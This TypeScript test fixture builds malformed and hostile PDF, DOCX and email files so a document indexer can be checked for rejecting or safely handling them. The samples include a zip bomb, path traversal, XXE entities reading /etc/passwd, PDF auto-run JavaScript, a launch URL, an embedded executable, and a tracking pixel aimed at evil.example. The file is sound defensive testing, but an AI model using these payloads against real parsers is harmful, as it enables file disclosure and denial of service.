import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib'
import { packed, packedDocx } from '../formats/zip/packed.fixture'

/** Documents of strangers, made to harm or only broken; each with the end its reading must come to. */
export interface HostileFile {
  row: string
  name: string
  bytes: Buffer
  state: 'indexed' | 'partial' | 'skipped' | 'failed'
  /** Words of the reason given. */
  reason?: RegExp
  /** Words that must be in the text. */
  has?: string
  /** Words that must not be in the text. */
  hasNot?: string
}

async function pdf(words: string, change: (document: PDFDocument) => unknown = () => undefined): Promise<Buffer> {
  const document = await PDFDocument.create()
  const font = await document.embedFont(StandardFonts.TimesRoman)
  const page = document.addPage([595, 842])
  if (words) page.drawText(words, { x: 60, y: 700, size: 11, font })
  await change(document)
  return Buffer.from(await document.save({ useObjectStreams: false }))
}

const action = (document: PDFDocument, kind: string, key: string, value: string) =>
  document.context.obj({ Type: 'Action', S: PDFName.of(kind), [key]: PDFString.of(value) })

/** A document whose archive lists one empty part that many times; its bytes stay few. */
function crowded(count: number): Buffer {
  const bytes = packed({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', 'word/x': '' })
  // Places within the end record: entries here at 8, entries in all at 10, size of the list at 12, its place at 16.
  const end = bytes.length - 22
  const list = bytes.subarray(bytes.readUInt32LE(end + 16), end)
  const last = list.subarray(list.lastIndexOf('PK\x01\x02', undefined, 'latin1'))
  const longer = Buffer.concat([list, ...Array.from({ length: count }, () => last)])
  const tail = Buffer.from(bytes.subarray(end))
  tail.writeUInt16LE(count + 3, 8)
  tail.writeUInt16LE(count + 3, 10)
  tail.writeUInt32LE(longer.length, 12)
  return Buffer.concat([bytes.subarray(0, end - list.length), longer, tail])
}

const paragraph = (words: string) => `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>`
const mail = (body: string, headers = '') =>
  Buffer.from(
    `From: Ann Lee <ann@example.org>\r\nTo: desk@example.org\r\nDate: Wed, 17 Oct 2018 23:30:00 -0700\r\nSubject: Ships come home\r\nMessage-ID: <1@x>\r\nMIME-Version: 1.0\r\n${headers}\r\n${body}`,
    'latin1',
  )
const nestedMail = (depth: number) =>
  Array.from({ length: depth }, (_, i) => `Content-Type: multipart/mixed; boundary=b${i}\r\n\r\n--b${i}\r\n`).join('')
const manyParts = (count: number) =>
  `${Array.from({ length: count }, (_, i) => `--b\r\n\r\nPart ${i}\r\n`).join('')}--b--`

/** Rows B40 to B52 of the table of bad input, and B19 for packed documents. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const whole = await pdf('Harbour words')
  const loop = Buffer.from(
    whole.toString('latin1').replace(/\/Kids \[[^\]]*\]/, (kids) => kids.replace(/\d+ 0 R/, '1 0 R')),
    'latin1',
  )
  return [
    { row: 'B40', name: 'cut.pdf', bytes: whole.subarray(0, whole.length >> 1), state: 'failed', reason: /damaged/ },
    { row: 'B40', name: 'garbage.pdf', bytes: Buffer.from('%PDF-1.7 garbage '.repeat(500)), state: 'failed', reason: /damaged/ },
    { row: 'B40', name: 'lost-table.pdf', bytes: Buffer.from(whole.toString('latin1').replace(/startxref\s+\d+/, 'startxref\n999999'), 'latin1'), state: 'indexed', has: 'Harbour words' },
    { row: 'B41', name: 'locked.pdf', bytes: await pdf('Secret', (document) => document.encrypt({ userPassword: 'p', ownerPassword: 'o' })), state: 'skipped', reason: /password/ },
    { row: 'B42', name: 'scanned.pdf', bytes: await pdf(''), state: 'skipped', reason: /pictures without text/ },
    { row: 'B43', name: 'active.pdf', bytes: await pdf('Quiet words', (document) => {
      document.addJavaScript('run', 'app.launchURL("http://evil.example")')
      document.catalog.set(PDFName.of('OpenAction'), action(document, 'URI', 'URI', 'http://evil.example/open'))
      document.catalog.set(PDFName.of('AA'), document.context.obj({ WC: action(document, 'JavaScript', 'JS', 'run()') }))
      return document.attach(Buffer.from('MZ evil'), 'evil.exe', { mimeType: 'application/x-msdownload' })
    }), state: 'indexed', has: 'Quiet words', hasNot: 'evil' },
    { row: 'B44', name: 'pages.pdf', bytes: await pdf('First page', (document) => { for (let i = 0; i < 2100; i++) document.addPage([100, 100]) }), state: 'partial', has: 'First page' },
    { row: 'B45', name: 'loop.pdf', bytes: loop, state: 'failed' },
    { row: 'B45', name: 'many-declared.pdf', bytes: Buffer.from(whole.toString('latin1').replace(/\/Count 1/, '/Count 999999999'), 'latin1'), state: 'indexed', has: 'Harbour words' },
    { row: 'B46', name: 'bomb.docx', bytes: packedDocx(paragraph('a'.repeat(8_000_000))), state: 'skipped', reason: /unpacks to far more/ },
    { row: 'B46', name: 'entries.docx', bytes: crowded(20_050), state: 'skipped', reason: /files in one archive/ },
    { row: 'B47', name: 'outside.docx', bytes: packedDocx(paragraph('Inner words'), { '../../escaped.txt': 'evil', 'word/_rels/document.xml.rels': '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>' }), state: 'indexed', has: 'Inner words', hasNot: 'root:' },
    { row: 'B48', name: 'entities.docx', bytes: packed({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><w:document><w:body><w:p><w:r><w:t>&b;&c;</w:t></w:r></w:p></w:body></w:document>' }), state: 'skipped', reason: /harm/ },
    { row: 'B49', name: 'hollow.docx', bytes: packed({ '[Content_Types].xml': '<Types/>' }), state: 'failed' },
    { row: 'B49', name: 'old.docx', bytes: Buffer.concat([Buffer.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1), Buffer.alloc(2000)]), state: 'skipped' },
    { row: 'B49', name: 'macro.docm', bytes: packedDocx(paragraph('Macro words'), { 'word/vbaProject.bin': 'evil' }, 'ms-word.document.macroEnabled'), state: 'skipped', reason: /macros/ },
    { row: 'B50', name: 'nested.eml', bytes: mail('\r\nat the bottom', nestedMail(1000)), state: 'partial', has: 'Ships come home' },
    { row: 'B50', name: 'parts.eml', bytes: mail(manyParts(5_000), 'Content-Type: multipart/mixed; boundary=b\r\n'), state: 'indexed', has: 'Part 4999' },
    { row: 'B50', name: 'no-boundary.eml', bytes: mail('Words nobody can part', 'Content-Type: multipart/mixed; boundary=never\r\n'), state: 'indexed', has: 'Ships come home' },
    { row: 'B51', name: 'charset.eml', bytes: mail('Words in an unknown charset', 'Content-Type: text/plain; charset=klingon-9\r\nX-Broken: =?utf-8?Q?broken\r\n'), state: 'indexed', has: 'Words in an unknown charset' },
    { row: 'B51', name: 'headers.eml', bytes: mail('Words below long headers', `X-Long: ${'a'.repeat(2_000_000)}\r\n`), state: 'indexed', has: 'Words below long headers' },
    { row: 'B52', name: 'tracker.eml', bytes: mail('<p>Read <b>this</b></p><img src="http://evil.example/t.gif"><img src="cid:pixel"><script>evil()</script>', 'Content-Type: text/html; charset=utf-8\r\n'), state: 'indexed', has: 'Read this', hasNot: 'evil' },
  ] // prettier-ignore
}
